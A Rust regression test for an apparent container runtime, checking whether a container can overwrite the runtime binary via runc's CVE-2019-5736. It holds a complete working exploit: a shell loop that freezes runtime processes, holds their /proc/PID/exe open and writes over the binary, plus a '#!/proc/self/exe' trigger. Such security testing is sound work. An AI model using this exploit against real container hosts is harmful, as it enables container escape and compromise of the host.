//! runc's CVE-2019-5736: a container reopens the runtime's binary for
//! writing through `/proc/PID/exe` of a runtime process that entered it.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use crate::harness::{self, enter, err};
use crate::{bundle, sha256};

/// The container's init: it watches for any process whose binary is not
/// its own busybox, stops it, holds its `/proc/PID/exe` open, kills it
/// and then, once nothing runs that binary any more, writes to it through
/// the held descriptor (a running binary refuses writers with ETXTBSY).
/// What it saw goes to /tmp/holder.
const HOLDER: &str = r#"
while :; do
  for p in /proc/[0-9]*; do
    [ -e $p/exe ] || continue
    [ $p/exe -ef /bin/busybox ] && continue
    pid=${p#/proc/}
    kill -STOP $pid 2>/dev/null || continue
    if exec 3<$p/exe; then
      kill -KILL $pid
      echo "caught $(readlink /proc/self/fd/3)" >> /tmp/holder
      n=0
      while [ $n -lt 60 ]; do
        if echo pwned 2>/dev/null >/proc/self/fd/3; then echo WROTE >> /tmp/holder; break; fi
        n=$((n+1)); sleep 0.05
      done
      exec 3<&-
      echo done >> /tmp/holder
    else
      # Non-dumpable (the runtime's own exec child on its way in): its
      # exe cannot be held, so let it go on to run the program.
      kill -CONT $pid
    fi
  done
done
"#;

/// The way in that non-dumpable runtime processes leave open: a program
/// that is `#!/proc/self/exe`, which has the kernel run the runtime binary
/// itself inside the container, as an ordinary (dumpable) process of it.
/// Each runtime under test is a copy on a writable filesystem, as under
/// containerd on an ordinary host; crun and runc face the same holder.
#[test]
fn a_container_cannot_write_the_runtime_binary() {
    if !enter("sealed::a_container_cannot_write_the_runtime_binary") {
        return;
    }
    for (name, prefix, read_only) in [
        ("husk", vec!["oci"], false),
        ("husk", vec!["oci"], true),
        ("crun", vec!["--cgroup-manager=disabled"], false),
        ("runc", vec![], false),
    ] {
        let installed = if name == "husk" {
            harness::husk()
        } else {
            harness::require(name);
            which(name)
        };
        let report = attack(&installed, &prefix, read_only);
        println!("{name} (read-only: {read_only}): {report}");
        if name == "husk" {
            // On a writable filesystem it runs from its sealed copy; on a
            // read-only mount from itself, which refuses writers.
            assert_eq!(
                report.contains("memfd:husk-runtime"),
                !read_only,
                "{report}"
            );
        }
    }
}

/// Runs the holder against a copy of `installed` (seen through a
/// read-only bind mount if `read_only`); returns what the holder saw,
/// after checking the copy is unchanged.
fn attack(installed: &Path, prefix: &[&str], read_only: bool) -> String {
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("bin");
    fs::create_dir(&bin).unwrap();
    let binary = bin.join("runtime");
    fs::copy(installed, &binary).unwrap();
    let before = sha256(&binary);
    let _unmount = read_only.then(|| ReadOnly::mount(&bin));
    let bundle_dir = dir.path().join("bundle");
    let b = bundle::make(&bundle_dir, &["sh", "-c", HOLDER]);
    let mut config = bundle::config(&["sh", "-c", HOLDER]);
    bundle::with_host_libs(&b, &mut config);
    bundle::write_config(&b, &config);
    let evil = b.join("rootfs/bin/evil");
    fs::write(&evil, "#!/proc/self/exe\n").unwrap();
    fs::set_permissions(&evil, fs::Permissions::from_mode(0o755)).unwrap();

    let root = dir.path().join("state");
    let runtime = Runtime {
        binary: &binary,
        prefix,
        root: &root,
    };
    let bs = b.to_str().unwrap();
    let created = runtime.run(&["create", "--bundle", bs, "holder"]);
    assert!(created.status.success(), "{}", err(&created));
    let _cleanup = Cleanup(Runtime {
        binary: installed,
        ..runtime
    });
    assert!(runtime.run(&["start", "holder"]).status.success());

    let report = b.join("rootfs/tmp/holder");
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut attempts = 0;
    while !read(&report).contains("done") {
        assert!(
            Instant::now() < deadline,
            "the holder never caught the runtime binary after {attempts} execs: {}",
            read(&report)
        );
        attempts += 1;
        let _ = runtime.run(&["exec", "holder", "/bin/evil"]);
        // The holder's write attempts outlast the exec.
        std::thread::sleep(Duration::from_millis(100));
    }
    let report = read(&report);
    assert!(
        !report.contains("WROTE"),
        "{}: {report}",
        installed.display()
    );
    assert_eq!(sha256(&binary), before, "{} changed", installed.display());
    format!("{attempts} execs; the holder saw: {report}")
}

fn which(name: &str) -> PathBuf {
    let out = Command::new("sh")
        .args(["-c", &format!("command -v {name}")])
        .output()
        .unwrap();
    PathBuf::from(String::from_utf8(out.stdout).unwrap().trim())
}

fn read(path: &Path) -> String {
    fs::read_to_string(path).unwrap_or_default()
}

struct Runtime<'a> {
    binary: &'a Path,
    prefix: &'a [&'a str],
    root: &'a Path,
}

impl Runtime<'_> {
    fn run(&self, args: &[&str]) -> Output {
        let mut all: Vec<&str> = self.prefix.to_vec();
        all.push("--root");
        all.push(self.root.to_str().unwrap());
        all.extend_from_slice(args);
        harness::command(self.binary, &all)
    }
}

/// A directory bind-mounted read-only on itself, until dropped.
struct ReadOnly(PathBuf);

impl ReadOnly {
    fn mount(dir: &Path) -> Self {
        let status = Command::new("mount")
            .args(["--bind", "-o", "ro"])
            .arg(dir)
            .arg(dir)
            .status()
            .unwrap();
        assert!(status.success(), "mount --bind -o ro {}", dir.display());
        ReadOnly(dir.to_path_buf())
    }
}

impl Drop for ReadOnly {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

/// Deletes the container with the installed binary (the copy may be
/// the attacker's by now).
struct Cleanup<'a>(Runtime<'a>);

impl Drop for Cleanup<'_> {
    fn drop(&mut self) {
        let _ = self.0.run(&["delete", "--force", "holder"]);
    }
}
